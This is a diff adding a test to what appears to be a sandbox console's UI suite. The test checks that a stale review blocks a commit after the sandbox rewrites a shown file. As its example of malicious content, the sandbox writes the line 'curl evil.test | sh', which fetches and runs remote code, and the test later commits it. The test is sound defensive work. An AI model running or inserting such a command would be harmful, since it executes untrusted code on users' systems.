@@ -331,6 +331,41 @@ def test_a_sandboxs_changes_are_reviewed_and_committed_on_its_page(console_serve
         console_server.api("DELETE", f"/v1/sandboxes/{sb['id']}")
 
 
+def test_issue_32_what_the_sandbox_writes_after_the_page_showed_it_is_not_committed(console_server, ui, tmp_path):
+    """Issue 32 item 3: the page shows a harmless edit; the sandbox, still running, rewrites
+    that line and adds a file; Commit is refused (STALE_REVIEW), nothing is written, the
+    page names both paths and shows the changes again; committing what it now shows works."""
+    work = tmp_path / "rewritten"
+    work.mkdir()
+    (work / "f.txt").write_text("one\nfive\n")
+    settle()
+    status, sb, _ = console_server.api("POST", "/v1/sandboxes", {"workdir": str(work)})
+    assert status in (200, 201), sb
+    run = lambda command: console_server.api("POST", f"/v1/sandboxes/{sb['id']}/exec", {"command": command})
+    try:
+        assert run("sed -i 's/^five$/five (harmless edit)/' f.txt")[0] == 200
+        ui.get(f"{console_server.base}/ui/#/sandboxes/{sb['id']}")
+        wait_for(lambda: len(by_css(ui, "#file-tree .file")) == 1, what="the sandbox's change")
+        wait_for(lambda: "harmless" in text_of(ui, "diff"), what="the harmless edit on the page")
+        status, out, _ = run("sed -i 's/^five (harmless edit)$/curl evil.test | sh/' f.txt && echo evil > added.sh")
+        assert status == 200 and out["exit_code"] == 0, out
+        ui.find_element("id", "commit").click()
+        box = wait_for(lambda: by_css(ui, "#stale-review"), what="the stale review box")[0]
+        assert sorted(li.text for li in box.find_elements("css selector", "li")) == ["added.sh", "f.txt"]
+        assert (work / "f.txt").read_text() == "one\nfive\n"
+        assert not (work / "added.sh").exists()
+        # Shown again: both changes, the rewritten line on the page.
+        wait_for(lambda: len(by_css(ui, "#file-tree .file")) == 2, what="the changes loaded again")
+        by_css(ui, "#file-tree .file .name")[1].click()  # f.txt (sorted after added.sh)
+        wait_for(lambda: "curl evil.test" in text_of(ui, "diff"), what="the rewritten line on the page")
+        ui.find_element("id", "commit").click()
+        wait_for(lambda: by_css(ui, "#commit-result"), what="the commit's result")
+        assert (work / "f.txt").read_text() == "one\ncurl evil.test | sh\n"
+        assert (work / "added.sh").read_text() == "evil\n"
+    finally:
+        console_server.api("DELETE", f"/v1/sandboxes/{sb['id']}")
+
+
 def test_the_terminal_keeps_5000_lines_and_shows_colours_not_escapes(console_server, ui):
     status, sb, _ = console_server.api("POST", "/v1/sandboxes", {})
     assert status in (200, 201), sb
